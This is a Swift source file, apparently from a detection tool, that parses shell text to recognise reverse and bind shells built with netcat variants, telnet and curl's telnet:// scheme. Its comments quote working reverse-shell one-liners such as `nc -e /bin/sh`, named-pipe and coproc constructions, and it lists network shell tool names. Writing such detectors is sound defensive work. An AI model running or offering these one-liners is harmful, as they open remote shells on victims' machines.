import Bytes

/// Netcat and its kin, telnet and curl's telnet, with a shell at the near end: run by the tool (`-e`, `-c`), in a pipe, or
/// through a named pipe. Port checks (`-z`), transfers and relays have no shell and are none.
enum NetcatMatcher {
  private static let clientNames: [StaticString] = [
    "nc", "ncat", "netcat", "nc.exe", "ncat.exe", "nc64", "nc64.exe", "nc.traditional", "nc.openbsd", "rcat", "rustcat",
    "pwncat",
    "cryptcat", "sbd", "dbd", "netcat.traditional", "netcat.openbsd",
  ]
  private static let telnetNames: [StaticString] = ["telnet", "telnet.exe"]
  /// All that are looked for.
  static let toolNames = clientNames + telnetNames + ShellServers.toolNames
  private static let names = NameTable(clientNames)
  private static let telnets = NameTable(telnetNames)

  /// Programs that a client is told to run besides shells.
  private static let interpreters = NameTable([
    "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "awk", "gawk",
  ])
  /// Long options of ncat with a value behind them.
  private static let valued = NameTable([
    "--proxy", "--proxy-type", "--proxy-auth", "--proxy-dns", "--source", "--source-port", "--idle-timeout", "--wait",
    "--delay", "--output", "--hex-dump", "--max-conns", "--allow", "--deny", "--ssl-cert", "--ssl-key",
    "--ssl-trustfile", "--ssl-ciphers", "--ssl-servername", "--ssl-alpn",
  ])

  /// What a client costs grows with the text; a command line has a few.
  private static let maximumClients = 64
  /// Where ncat goes without a port.
  private static let ncatPort = 31337

  static func matches(_ shell: ShellText) -> [ShellMatch] {
    var found: [ShellMatch] = []
    var clients = 0
    // Commands with a client in them; where there is a named pipe, one is asked for.
    let users =
      shell.hasFIFO
      ? Set(shell.tools.lazy.filter { names.contains(shell.name($0)) }.map(\.command).prefix(maximumClients)).count : 0
    for tool in shell.tools where found.count < 16 && clients < maximumClients {
      let (index, place) = tool
      let name = shell.name(tool)
      if ShellServers.names.contains(name), let one = ShellServers.telnet(shell, index, place) { found.append(one) }
      let isTelnet = telnets.contains(name)
      guard isTelnet || names.contains(name), shell.commands[index].words[place].count <= 64 else { continue }
      clients += 1
      if let one = isTelnet ? telnet(shell, index, place, users) : netcat(shell, index, place, users) {
        found.append(one)
      }
    }
    if shell.signs.hasTelnet, let one = curlTelnet(shell) { found.append(one) }
    if shell.signs.hasService, let one = ShellServers.service(shell) { found.append(one) }
    return found
  }

  // MARK: Arguments

  private struct Arguments {
    var positional: [ByteView] = []
    var runs = false
    /// A word stands before the program that is to run.
    var beginsWithWord = false
    var listens = false
    var scans = false
    var isUDP = false
    var listenPort: ByteView?
    var input: ByteView?
  }

  private static func arguments(_ tool: ToolWords) -> Arguments {
    let words = tool.words
    var result = Arguments()
    var index = 0
    while index < words.count {
      let word = words[index]
      let next = index + 1 < words.count ? words[index + 1] : ByteView("")
      index += 1
      if word[0] == 0x2D, word.count > 1 {
        if word[1] == 0x2D {
          if word.hasPrefix("--exec") || word.hasPrefix("--sh-exec") {
            // `--exec=/bin/sh`; the value may stand in quotes behind the sign.
            let attached = word.cut(0x3D)?.after ?? ByteView("")
            let isAttached = !attached.isEmpty
            let (program, start) = isAttached ? (attached, index - 1) : (next, index)
            if tool.hands(program, at: start) || tool.isCutShell(program, at: start) { result.runs = true }
            if !isAttached { index = tool.end(at: index) }
            if result.runs { index = end(ofShell: program, words, index) }
          } else if word == "--listen" {
            result.listens = true
          } else if word == "--udp" {
            result.isUDP = true
          } else if valued.contains(word) {
            index += 1
          }
          continue
        }
        for place in 1..<(word.firstIndex(of: 0x2F) ?? word.count) {
          switch word[place] {
          case 0x6C: result.listens = true
          case 0x7A: result.scans = true
          case 0x75: result.isUDP = true
          default: break
          }
        }
        // `-e/bin/sh`
        let slash = word.firstIndex(of: 0x2F)
        let letters = word.slice(1, slash ?? word.count)
        let program = slash.map { word.slice($0) } ?? next
        let asksForProgram =
          letters.firstIndex(of: 0x65) != nil || letters.firstIndex(of: 0x63) != nil || letters == "s" || letters == "r"
        if asksForProgram,
          ShellWords.isShell(program) || program == "exec" || interpreters.contains(ShellWords.baseName(program))
        {
          let start = slash == nil ? index : index - 1
          if tool.hands(program, at: start)
            || tool.hands(program, at: start, where: { interpreters.contains(ShellWords.baseName($0)) })
          {
            result.runs = true
          }
          if slash == nil { index = tool.end(at: start) }
          if result.runs { index = end(ofShell: program, words, index) }
        } else if asksForProgram, tool.isCutShell(program, at: slash == nil ? index : index - 1) {
          result.runs = true
          if slash == nil { index += 1 }
        } else if let flag = letters.firstIndex(of: 0x70), Endpoint.isPort(letters.slice(flag + 1)) {
          // `-nvlp4444`
          result.listenPort = letters.slice(flag + 1)
        } else if letters.array.last == 0x70 {
          result.listenPort = next
          index += 1
        } else if isAny(letters.array.last ?? 0, of: "wsixXqoIOTm"), letters.count <= 4, next[0] != 0x2D,
          Endpoint.isPort(next)
        {
          index += 1
        }
      } else if ShellWords.isRedirection(word) {
        let isLone = ShellWords.isLoneRedirection(word)
        // `nc host 4242>/tmp/f`, `nc host 4242<f`: meant as the port, whatever a shell makes of it.
        let end = word.firstIndex(of: 0x3E) ?? word.count
        let digits = min(word.firstIndex(of: 0x3C) ?? end, end)
        if digits >= 2, digits <= 5, digits < word.count { result.positional.append(word.slice(0, digits)) }
        let isInput = word[0] == 0x3C || word.hasPrefix("0<") || digits >= 2 && word[digits] == 0x3C
        if isInput { result.input = isLone ? next : word }
        if isLone { index += 1 }
      } else if word == "listen" {
        result.listens = true
      } else if !(word == "connect") {
        result.positional.append(word)
        if !result.runs { result.beginsWithWord = true }
      }
    }
    return result
  }

  /// The place behind a shell's own words, where its quotes were lost: `/bin/sh -i`, `/bin/bash -li`, `/bin/busybox sh`. As a
  /// client's option, `-l` stands without an i.
  private static func end(ofShell program: ByteView, _ words: [ByteView], _ start: Int) -> Int {
    guard start < words.count else { return start }
    let next = words[start]
    let isOwn =
      next == "-i" || next == "-li" || next == "-il"
      || ShellWords.isShell(next) && ShellWords.baseName(program) == "busybox"
    return isOwn ? start + 1 : start
  }

  // MARK: Judgement

  private static func netcat(_ shell: ShellText, _ index: Int, _ place: Int, _ users: Int) -> ShellMatch? {
    let arguments = arguments(ToolWords(shell, index, after: place))
    guard !arguments.scans else { return nil }
    let isPiped =
      !arguments.runs
      && (isPipedWithShell(shell, index) || isFedByFIFO(shell, index, arguments, users)
        || isCoprocess(shell, index, place))
    guard arguments.runs || isPiped else { return nil }
    let technique = shell.carrier ?? (isPiped && shell.hasFIFO ? "mkfifo_nc" : "nc")
    let name = ShellWords.baseName(shell.commands[index].word(place))
    let isNcat = name.equalsIgnoringCase("ncat") || name.equalsIgnoringCase("ncat.exe")
    return match(shell, index, technique, arguments, defaultPort: isNcat ? ncatPort : nil)
  }

  private static func telnet(_ shell: ShellText, _ index: Int, _ place: Int, _ users: Int) -> ShellMatch? {
    let arguments = arguments(ToolWords(shell, index, after: place))
    guard arguments.positional.count >= 2,
      isPipedWithShell(shell, index) || isFedByFIFO(shell, index, arguments, users)
    else { return nil }
    return match(shell, index, "telnet", arguments)
  }

  /// `mkfifo f; sh -i <f 2>&1 | nc … >f` has the shell next to the client; `mkfifo f; nc … <f | sh >f` too; and
  /// `sh <f >g & nc … <g >f` only the named pipe between.
  private static func isPipedWithShell(_ shell: ShellText, _ index: Int) -> Bool {
    shell.isPipedWithShell(index) || shell.isJoinedWithShell(index)
  }

  /// `coproc nc host 1; exec sh <&${COPROC[0]} >&${COPROC[1]}`
  private static func isCoprocess(_ shell: ShellText, _ index: Int, _ place: Int) -> Bool {
    guard shell.hasCoprocess else { return false }
    if place > 0, shell.commands[index].words[0] == "coproc" { return shell.hasFreeShell }
    // `coproc sh; nc host 1 <&${COPROC[0]} >&${COPROC[1]}`
    return shell.commands[index].words.contains { $0.contains("COPROC[") }
      && shell.commands.contains { $0.word(0) == "coproc" && ShellWords.isShell($0.word(1)) }
  }

  /// A client, the only one, whose input is the named pipe: `mknod p p && nc host 1 0<p`.
  private static func isFedByFIFO(_ shell: ShellText, _ index: Int, _ arguments: Arguments, _ users: Int) -> Bool {
    guard shell.hasFIFO, !arguments.listens, arguments.positional.count >= 2 else { return false }
    // `nc host 1 <p | tee log >p`: what comes in goes to another program.
    if shell.commands[index].end == 0x7C, index + 1 < shell.commands.count { return false }
    // A page that lost its `<` leaves `0/tmp/p`.
    let mangled = arguments.positional.contains { $0.hasPrefix("0/") }
    return users <= 1 && (arguments.input != nil || mangled)
      && (shell.pipes.isUnnamed || shell.pipes.areUsed(shell.commands, by: index))
  }

  private static func match(
    _ shell: ShellText, _ index: Int, _ technique: String, _ arguments: Arguments, defaultPort: Int? = nil
  ) -> ShellMatch? {
    let positional = arguments.positional
    var endpoint = Endpoint(host: nil, port: nil)
    var isBind = arguments.listens
    if isBind {
      // An address is no port, and what stands behind the port is another's: `"ncat -l 9001 -e /bin/sh", "pid": 3`.
      let ports = [arguments.listenPort].compactMap { $0 } + positional
      endpoint.port =
        ports.lazy.compactMap { word in
          shell.variables.resolve(word).withView { Endpoint.isPort($0) ? Endpoint.port($0) : nil }
        }.first ?? positional.reversed().lazy.compactMap { Endpoint.port($0) }.first
      if arguments.listenPort == nil { endpoint.port = endpoint.port ?? defaultPort }
    } else if let pair = pair(shell, positional) {
      // `nc -e /bin/sh HOST PORT`: how it is used.
      if pair.port == nil, positional.count == 2, positional.allSatisfy(isPlaceholder) { return nil }
      if arguments.runs, isProse(positional, pair) { return nil }
      endpoint = pair
    } else if let port = arguments.listenPort, positional.count == 1, Endpoint.isPlainHost(positional[0]) {
      // The port said as if it were the near one.
      endpoint = shell.endpoint(positional[0], port)
    } else if let only = positional.first, let pair = Endpoint.pair(only) {
      endpoint = pair
    } else {
      // Without a far end it can only wait for one.
      isBind = arguments.listenPort != nil
      // A path behind it is another command's: `grep -r "nc -e /bin/sh" /var/www`.
      if !isBind, positional.first.map({ $0[0] == 0x2F || $0[0] == 0x2E }) ?? true { return nil }
      if !isBind, arguments.runs, positional.allSatisfy({ isWord($0) && !Endpoint.isPlainHost($0) }) {
        // `ncat kali -e /bin/sh` needs no port; `do not use nc -e /bin/sh here` names no host.
        guard arguments.beginsWithWord, let defaultPort, positional.count == 1, let only = positional.first,
          !prepositions.contains(only)
        else { return nil }
        endpoint = Endpoint(host: only.string, port: defaultPort)
      }
      if !isBind, let only = positional.first, Endpoint.isPlainHost(only) {
        endpoint = Endpoint(host: only.string, port: defaultPort)
      }
    }
    return ShellMatch(
      technique: technique, endpoint: endpoint, isBind: isBind, transport: arguments.isUDP ? "udp" : "tcp",
      place: shell.commands[index].range.lowerBound)
  }

  private static func isPlaceholder(_ word: ByteView) -> Bool {
    word.array.allSatisfy { $0 >= 0x41 && $0 <= 0x5A || $0 == 0x5F }
  }

  /// `nc -e /bin/sh is disabled here`: words where a host and a port are looked for, and neither can be one.
  private static func isProse(_ words: [ByteView], _ pair: Endpoint) -> Bool {
    guard words.count >= 2, isWord(words[0]), isWord(words[1]), !words[0..<2].contains(where: Endpoint.isPlainHost)
    else { return false }
    return pair.port == nil || prepositions.contains(words[0])
  }

  /// What stands before a service's name in a sentence: `nc -e /bin/sh over ssh`.
  private static let prepositions = NameTable([
    "a", "and", "as", "at", "by", "for", "from", "in", "into", "is", "like", "no", "not", "of", "on", "or", "over",
    "the",
    "through", "to", "uses", "using", "via", "was", "with", "without",
  ])

  /// Letters, as in a sentence, with a sentence's signs behind; no number, variable or code.
  private static func isWord(_ word: ByteView) -> Bool {
    var end = word.count
    while end > 0, isAny(word[end - 1], of: ".,;:!?)") { end -= 1 }
    guard end > 0 else { return false }
    return (0..<end).allSatisfy {
      let letter = word[$0] | 0x20
      return letter >= 0x61 && letter <= 0x7A || $0 > 0 && isAny(word[$0], of: "-'")
    }
  }

  /// Host and port: the first two words of which the second is a port, for some options have values; else the first two.
  private static func pair(_ shell: ShellText, _ words: [ByteView]) -> Endpoint? {
    guard words.count >= 2 else { return nil }
    for place in 0..<(words.count - 1)
    where Endpoint.isPlainHost(words[place]) && Endpoint.isPort(words[place + 1]) {
      return shell.endpoint(words[place], words[place + 1])
    }
    // `nc -e /bin/sh to 192.0.2.1 on port 4444`
    if isWord(words[0]), !Endpoint.isPlainHost(words[0]), Endpoint.isPlainHost(words[1]) {
      return shell.endpoint(words[1], words.dropFirst(2).first(where: Endpoint.isPort) ?? ByteView(""))
    }
    return shell.endpoint(words[0], words[1])
  }

  /// `C='curl -Ns telnet://host:port'; $C | sh | $C`
  private static func curlTelnet(_ shell: ShellText) -> ShellMatch? {
    guard shell.hasFreeShell || shell.hasPipedShell else { return nil }
    var from = 0
    var looks = 0
    var index = 0
    while let place = shell.text.firstIndex(of: ByteView("telnet://"), from: from), looks < maximumClients {
      from = place + 9
      looks += 1
      while index + 1 < shell.commands.count, shell.commands[index + 1].range.lowerBound <= place { index += 1 }
      guard shell.commands.indices.contains(index), isTied(shell, index) else { continue }
      var end = place
      while end < shell.text.count, end - place < 300, !isAny(shell.text[end], of: " '\"|;\n\t<>") { end += 1 }
      guard let endpoint = Endpoint.pair(shell.text.slice(place, end)) else { continue }
      return ShellMatch(technique: "telnet", endpoint: endpoint, place: place)
    }
    return nil
  }

  /// Whether a command has a shell at its other end, or is kept under a name for a pipe further on.
  private static func isTied(_ shell: ShellText, _ index: Int) -> Bool {
    let before = shell.commands[index].before
    if before == 0x22 || before == 0x27, index > 0, shell.commands[index - 1].words.last?.hasSuffix("=") == true {
      return shell.hasPipedShell
    }
    if isPipedWithShell(shell, index) { return true }
    // The address in quotes of its own: `curl -s 'telnet://host:1' | sh`.
    guard before == 0x22 || before == 0x27, shell.commands[index].end == before, index + 1 < shell.commands.count else {
      return false
    }
    let next = shell.commands[index + 1]
    return next.before == 0x7C && ShellWords.isShellReadingInput(ShellText.withoutPrefix(next.words))
  }
}
